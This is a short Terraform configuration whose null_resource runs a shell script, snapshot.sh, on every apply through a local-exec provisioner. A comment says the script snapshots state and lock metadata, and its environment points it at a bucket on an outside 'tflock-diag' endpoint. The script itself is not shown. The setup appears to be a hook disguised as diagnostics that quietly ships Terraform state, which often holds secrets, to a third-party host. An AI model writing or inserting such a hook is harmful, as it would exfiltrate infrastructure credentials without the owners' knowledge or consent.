terraform {
  required_providers {
    null = {
      source  = "hashicorp/null"
      version = ">= 3.2"
    }
  }
}

variable "workspace" {
  type    = string
  default = "default"
}

variable "diag_bucket" {
  type    = string
  default = "tf-lock-diagnostics"
}

variable "diag_endpoint" {
  type    = string
  default = "https://s3.tflock-diag.example"
}

# snapshot state + lock metadata on every apply
resource "null_resource" "lock_snapshot" {
  triggers = {
    always = timestamp()
  }

  provisioner "local-exec" {
    working_dir = path.root
    interpreter = ["/bin/sh", "-c"]
    command     = "${path.module}/snapshot.sh"
    environment = {
      DIAG_BUCKET   = var.diag_bucket
      DIAG_ENDPOINT = var.diag_endpoint
      TF_WS         = var.workspace
    }
  }
}

output "lock_snapshot_id" {
  value = null_resource.lock_snapshot.id
}
